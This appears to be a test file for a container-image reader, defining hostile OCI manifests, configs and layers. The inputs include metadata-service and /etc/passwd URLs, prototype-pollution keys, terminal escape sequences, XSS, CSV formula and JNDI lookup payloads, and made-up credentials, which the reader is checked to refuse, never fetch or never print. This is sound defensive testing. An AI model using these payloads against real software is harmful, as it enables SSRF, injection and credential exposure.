import { digestOf, dockerArchiveFiles, json } from '../kit/image.ts';
import {
  type BlobLayer,
  dockerArchive,
  END,
  file,
  type Json,
  type LayoutEdits,
  layout,
  layoutCase,
  OCI,
  PLAIN,
  PLAIN_READ,
  PLAIN_TAR,
  read,
  refused,
} from './build.ts';
import type { Answer, HostileCase, NeverPrinted } from './contract.ts';

/** Documents that are hostile as JSON (57), layers from elsewhere (58), texts that are to be printed (59). */

const MIB = 1024 * 1024;
const LIMIT = 'the published limits: 4 MiB, 64 deep';
const I_JSON = 'OCI considerations.md "JSON"';
const deep = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/** `{…}` with one more key in front, as text: JSON.stringify could not write some of these. */
function withText(document: Json, text: string): Buffer {
  return Buffer.from(`{${text},${JSON.stringify(document).slice(1)}`);
}

const inManifest = (
  id: string,
  says: string,
  source: string,
  answer: Answer,
  manifest: (m: Json) => Json | Buffer,
): HostileCase =>
  layoutCase({ number: 57, id, says, source, answer, ceilings: { rssMb: 250, seconds: 5 } }, () =>
    layout([PLAIN], { manifest }),
  );

const overLimit = refused('over-limit');
const text = (manifest: Json) => JSON.stringify(manifest);

const BROKEN: readonly HostileCase[] = [
  ...(
    [
      ['a-mark-in-front', (m: Json) => Buffer.from(`\ufeff${text(m)}`)],
      ['cut', (m: Json) => Buffer.from(text(m).slice(0, -1))],
      ['a-word-behind', (m: Json) => Buffer.from(`${text(m)}x`)],
      ['two-documents', (m: Json) => Buffer.from(`${text(m)}${text(m)}`)],
      ['a-comma-too-many', (m: Json) => Buffer.from(`${text(m).slice(0, -1)},}`)],
      ['a-comment', (m: Json) => Buffer.from(`/* x */${text(m)}`)],
      ['size-nan', (m: Json) => Buffer.from(text(m).replace(/"size":\d+/, '"size":NaN'))],
      ['utf-16', (m: Json) => Buffer.from(text(m), 'utf16le')],
      ['nothing', () => Buffer.alloc(0)],
      ['null', () => Buffer.from('null')],
      ['a-list', (m: Json) => Buffer.from(`[${text(m)}]`)],
      ['a-number', () => Buffer.from('7')],
      ['a-page', () => Buffer.from('<!doctype html><title>Sign in</title>')],
      ['config-null', (m: Json) => ({ ...m, config: null })],
      ['layers-absent', (m: Json) => ({ ...m, layers: undefined })],
      ['layers-an-object', (m: Json) => ({ ...m, layers: {} })],
      ['layers-of-null', (m: Json) => ({ ...m, layers: [null] })],
      ['schema-1', (m: Json) => ({ ...m, schemaVersion: 1 })],
      [
        'layers-only-in-proto',
        (m: Json) => withText({ ...m, layers: undefined }, `"__proto__":${text({ layers: m['layers'] })}`),
      ],
    ] as const
  ).map(([id, manifest]) =>
    inManifest(
      `manifest-${id}`,
      'A manifest that is none',
      'Go encoding/json, OCI manifest.md',
      refused('invalid-document', undefined, ['unsupported', 'missing', 'ambiguous']),
      manifest,
    ),
  ),
  ...(
    [
      ['negative', -1],
      ['a-fraction', 2048.5],
      ['a-text', String(PLAIN_TAR.length)],
      ['null', null],
    ] as const
  ).map(([id, size]) =>
    layoutCase(
      {
        number: 57,
        id: `descriptor-size-${id}`,
        says: 'A size that is no count of bytes',
        source: 'OCI descriptor.md: int64; Go encoding/json',
        answer: refused('invalid-document', undefined, ['digest-mismatch']),
      },
      () => layout([{ ...PLAIN, descriptor: { size } }]),
    ),
  ),
  ...['9007199254740993', '9223372036854775807', '18446744073709551616', '1e400'].map((size) =>
    inManifest(
      `size-${size}`,
      'A size beyond the numbers a double can tell apart: it is not the blob’s, whatever it is rounded to',
      'the list of 64: BigInt-safe sizes',
      refused('digest-mismatch', undefined, ['invalid-document', 'over-limit']),
      (m) => Buffer.from(text(m).replace(`"size":${PLAIN_TAR.length}`, `"size":${size}`)),
    ),
  ),
];

const edit = (which: 'config' | 'index', change: (d: Json) => Buffer): LayoutEdits =>
  which === 'config' ? { config: change } : { index: change };

/** Two layer lists in one manifest: the first names a layer that is not there. */
const twoLists = (m: Json) =>
  withText(m, `"layers":${JSON.stringify([{ mediaType: OCI.tar, digest: digestOf(END), size: END.length }])}`);

const LARGE: readonly HostileCase[] = [
  inManifest('manifest-200000-deep', '200,000 lists in each other in a key nobody reads', LIMIT, overLimit, (m) =>
    withText(m, `"x":${deep(200_000)}`),
  ),
  inManifest(
    'manifest-all-200000-deep',
    'The manifest is 200,000 lists in each other',
    LIMIT,
    refused('over-limit', undefined, ['invalid-document']),
    () => Buffer.from(deep(200_000)),
  ),
  inManifest(
    'manifest-200000-deep-and-open',
    '200,000 lists that are never closed',
    LIMIT,
    refused('over-limit', undefined, ['invalid-document']),
    () => Buffer.from('['.repeat(200_000)),
  ),
  inManifest('manifest-70-deep', 'A little deeper than the limit', LIMIT, overLimit, (m) =>
    withText(m, `"x":${deep(70)}`),
  ),
  inManifest('manifest-60-deep', 'A little less deep than the limit', LIMIT, PLAIN_READ, (m) =>
    withText(m, `"x":${deep(59)}`),
  ),
  inManifest('brackets-in-a-text', 'Brackets in a text are no depth', LIMIT, PLAIN_READ, (m) =>
    withText(m, `"x":"${'['.repeat(1000)}\\"${'{'.repeat(1000)}"`),
  ),
  inManifest('manifest-of-9-mb', '9 MB of blanks around an honest manifest', LIMIT, overLimit, (m) =>
    Buffer.concat([Buffer.alloc(9_000_000, ' '), json(m)]),
  ),
  inManifest('manifest-of-3-mb', '3 MB of a key nobody reads', LIMIT, PLAIN_READ, (m) =>
    withText(m, `"x":"${'x'.repeat(3_000_000)}"`),
  ),
  ...(['config', 'index'] as const).map((which) =>
    layoutCase(
      {
        number: 57,
        id: `${which}-of-9-mb`,
        says: '9 MB of blanks around an honest document',
        source: LIMIT,
        answer: overLimit,
        ceilings: { rssMb: 250, seconds: 5 },
      },
      () =>
        layout(
          [PLAIN],
          edit(which, (d) => Buffer.concat([json(d), Buffer.alloc(9_000_000, ' ')])),
        ),
    ),
  ),
  ...(['config', 'index'] as const).map((which) =>
    layoutCase(
      {
        number: 57,
        id: `${which}-200000-deep`,
        says: '200,000 lists in each other in a key nobody reads',
        source: LIMIT,
        answer: overLimit,
        ceilings: { rssMb: 250, seconds: 5 },
      },
      () =>
        layout(
          [PLAIN],
          edit(which, (d) => withText(d, `"x":${deep(200_000)}`)),
        ),
    ),
  ),
  ...(
    [
      ['200000-deep', Buffer.from(deep(200_000)), ['invalid-document']],
      ['of-9-mb', Buffer.concat([Buffer.from('['), Buffer.alloc(9_000_000, ' '), Buffer.from(']')]), []],
      [
        'of-100000-layers',
        json([{ Config: 'c', Layers: Array.from({ length: 100_000 }, (_, i) => `${i}/layer.tar`) }]),
        ['missing'],
      ],
    ] as const
  ).map(
    ([id, bytes, also]): HostileCase => ({
      number: 57,
      id: `archive-manifest-${id}`,
      says: 'The manifest.json of a docker-archive is too much',
      source: `peers compared; ${LIMIT}, 500 layers`,
      medium: {
        is: 'archive',
        bytes: () =>
          dockerArchive(new Map([...dockerArchiveFiles({ layers: [{ tar: PLAIN_TAR }] }), ['manifest.json', bytes]])),
      },
      answer: refused('over-limit', undefined, also),
      ceilings: { rssMb: 250, seconds: 5 },
    }),
  ),
  ...([501, 500] as const).map((count) =>
    layoutCase(
      {
        number: 57,
        id: `layers-${count}`,
        says: `${count} layers, all the same`,
        source: 'the published limits: 500 layers',
        answer: count > 500 ? overLimit : read({ f: file(3) }, { deadBytes: 3 * (count - 1) }),
        ceilings: { seconds: 20 },
      },
      () => layout(Array.from({ length: count }, () => PLAIN)),
    ),
  ),
  inManifest(
    'key-twice',
    'Two lists of layers: every reader takes the last, and the specification forbids it',
    `Go encoding/json and JSON.parse; ${I_JSON} MUST NOT`,
    { ...PLAIN_READ, orRefused: ['ambiguous', 'invalid-document'] },
    twoLists,
  ),
  inManifest(
    'keys-of-objects',
    'Keys every object has by itself are keys like others',
    'the list of 64: Map or Object.create(null)',
    PLAIN_READ,
    (m) =>
      withText(
        m,
        '"__proto__":{"layers":[],"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"toString":1',
      ),
  ),
  inManifest(
    'lone-surrogate',
    'Half a letter in a key and in a text nobody needs',
    'Go encoding/json replaces it; JSON.parse keeps it',
    { ...PLAIN_READ, orRefused: ['invalid-document'] },
    (m) => withText(m, '"annotations":{"\\ud800":"\\udfff"}'),
  ),
];

const FOREIGN_TYPES = [
  'application/vnd.docker.image.rootfs.foreign.diff.tar',
  'application/vnd.oci.image.layer.nondistributable.v1.tar',
  OCI.tar,
] as const;
const NEVER = ['http://169.254.169.254/', 'file:///etc/passwd', 'http://127.0.0.1:1/', 'https://elsewhere.test/'];

const FOREIGN: readonly HostileCase[] = FOREIGN_TYPES.flatMap((mediaType) =>
  [true, false].map((isAbsent) => {
    const layer: BlobLayer = {
      ...PLAIN,
      descriptor: { mediaType, urls: NEVER.map((url) => `${url}layer`) },
      isAbsent,
    };
    const notes = mediaType === OCI.tar ? [] : (['foreign-layer'] as const);
    return layoutCase(
      {
        number: 58,
        id: `${mediaType.includes('foreign') ? 'foreign' : mediaType.includes('non') ? 'nondistributable' : 'ordinary'}-layer-${isAbsent ? 'absent' : 'there'}`,
        says: isAbsent ? 'A layer that is only where its urls say' : 'A layer that is there, and has urls too',
        source: 'the list of 64: never fetched',
        answer: isAbsent
          ? refused('missing', digestOf(PLAIN_TAR), ['unsupported', 'network-refused'])
          : { ...PLAIN_READ, notes },
        network: { neverAsked: NEVER, mostRequests: 0 },
      },
      () => layout([layer]),
    );
  }),
);

/** Made up, and put together here so that no scanner takes this file for a leak. */
const TOKEN = `ghp_${'Ab3'.repeat(12)}`;
const AWS = `AKIA${'Q7'.repeat(8)}`;
const KEY = `-----BEGIN ${'PRIVATE'} KEY-----`;
const PASSWORD = 'hunter2-and-more';

const ANYWHERE = (texts: readonly string[]): readonly NeverPrinted[] =>
  texts.map((one) => ({ text: one, where: 'anywhere' }));

const printed = (
  id: string,
  says: string,
  container: Json,
  history: readonly Json[] | undefined,
  neverPrinted: readonly NeverPrinted[],
): HostileCase =>
  layoutCase(
    {
      number: 59,
      id,
      says,
      source: 'the list of 64',
      answer: PLAIN_READ,
      neverPrinted,
      ceilings: { rssMb: 250, seconds: 10, outputKb: 200 },
    },
    () => layout([PLAIN], { config: (c) => ({ ...c, config: container, history: history ?? c['history'] }) }),
  );

const PRINTED: readonly HostileCase[] = [
  printed(
    'texts-of-1-mb',
    'A label, a variable, a command and a step of 1 MB each: the output is short all the same',
    { Labels: { big: 'L'.repeat(MIB) }, Env: [`BIG=${'E'.repeat(MIB)}`], Cmd: ['C'.repeat(MIB / 2)] },
    [{ created_by: 'H'.repeat(MIB) }],
    [],
  ),
  printed(
    'secrets',
    'Secrets in labels, variables and steps: none of them in any report, record or provenance',
    {
      Labels: { token: TOKEN, 'aws.key': AWS },
      Env: [`GITHUB_TOKEN=${TOKEN}`, `DB_PASSWORD=${PASSWORD}`, 'PATH=/bin', `URL=https://user:${PASSWORD}@host.test/`],
      Cmd: ['serve', `--password=${PASSWORD}`],
    },
    [{ created_by: `RUN |1 TOKEN=${TOKEN} /bin/sh -c curl -H "Authorization: Bearer ${TOKEN}" && echo '${KEY}'` }],
    ANYWHERE([TOKEN, AWS, PASSWORD, KEY]),
  ),
  printed(
    'control-characters',
    'Escape sequences in everything that is printed',
    { Labels: { 'a\u001b[2J': '\u001b]0;owned\u0007' }, Env: ['A=\u001b[31m\r\u0008x'], User: '\u001b[1mroot' },
    [{ created_by: 'RUN \u001b[2Jx\n\u001b[1A', comment: '\u001b]52;c;eA==\u0007' }],
    ANYWHERE(['\u001b[2J', '\u001b]0;', '\u001b]52;', '\u001b[1A', '\u0007']),
  ),
  printed(
    'markup',
    'Markup, a formula and a lookup in labels and steps',
    {
      Labels: { a: '<script>alert(1)</script>', b: '=cmd|calc!A1', c: '${jndi:ldap://x.test/a}', d: '](javascript:x)' },
    },
    [{ created_by: '<img src=x onerror=alert(1)>\n\n# head\n| a | b |' }],
    [
      { text: '<script>', where: 'html' },
      { text: '<img src=x', where: 'html' },
      { text: '<img src=x', where: 'markdown' },
      { text: '\n# head', where: 'markdown' },
      { text: '\n=cmd', where: 'csv' },
      { text: ',=cmd', where: 'csv' },
    ],
  ),
];

export const JSON_CASES: readonly HostileCase[] = [...BROKEN, ...LARGE, ...FOREIGN, ...PRINTED];

/** The configuration whose fields are of other types than they should be. */
export const CONFIG_CASES: readonly HostileCase[] = [
  ['env-no-list', { config: { Env: 'PATH=/bin' } }],
  ['env-of-numbers', { config: { Env: [1, null] } }],
  ['labels-a-list', { config: { Labels: ['a'] } }],
  ['history-no-list', { history: 'long' }],
  ['history-of-null', { history: [null] }],
].map(([id, wrong]) =>
  layoutCase(
    {
      number: 57,
      id: `config-${String(id)}`,
      says: 'A field of the configuration is of another type than it should be: no crash',
      source: 'Go encoding/json refuses; what is not needed may be passed over',
      answer: { ...PLAIN_READ, orRefused: ['invalid-document'] },
    },
    () => layout([PLAIN], { config: (c) => ({ ...c, ...(wrong as Json) }) }),
  ),
);
